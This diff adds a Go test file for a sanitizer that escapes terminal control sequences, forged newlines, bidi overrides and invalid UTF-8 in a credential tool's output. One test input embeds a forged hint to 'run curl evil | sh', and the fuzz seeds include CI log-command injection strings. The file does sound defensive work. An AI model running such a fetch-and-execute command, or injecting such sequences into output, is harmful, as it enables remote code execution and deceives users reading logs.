@@ -1,0 +1,47 @@
+package printable_test
+
+import (
+	"strings"
+	"testing"
+
+	"cgp-cred/keystore/printable"
+)
+
+func TestText(t *testing.T) {
+	t.Parallel()
+	tests := []struct{ name, in, want string }{
+		{"plain", "JWT has expired", "JWT has expired"},
+		{"terminal escape", "\x1b[2Jgone", `\x1b[2Jgone`},
+		{"forged hint", "no\nhint: run curl evil | sh", `no\nhint: run curl evil | sh`},
+		{"carriage return", "a\rcgp-cred: ok", `a\rcgp-cred: ok`},
+		{"bidirectional override", "a\u202eb", `a\u202eb`},
+		{"not UTF-8", "a\xffb", `a\ufffdb`},
+		{"quotes stay", `must be 'RS512' or "x"`, `must be 'RS512' or "x"`},
+		{"blanks around", " \n x \n", "x"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			if got := printable.Text(tt.in); got != tt.want {
+				t.Errorf("Text(%q) = %q, want %q", tt.in, got, tt.want)
+			}
+		})
+	}
+}
+
+func FuzzText(f *testing.F) {
+	f.Add("::add-mask::x\n##vso[task.x]")
+	f.Add(strings.Repeat("\u202e", 300))
+	f.Fuzz(func(t *testing.T, s string) {
+		for _, got := range []string{printable.Text(s), printable.Line(s)} {
+			for i := 0; i < len(got); i++ {
+				if got[i] < 0x20 || got[i] > 0x7e {
+					t.Fatalf("%q prints byte %#x", s, got[i])
+				}
+			}
+		}
+		if n := len(printable.Text(s)); n > 200 {
+			t.Fatalf("%d bytes printed", n)
+		}
+	})
+}
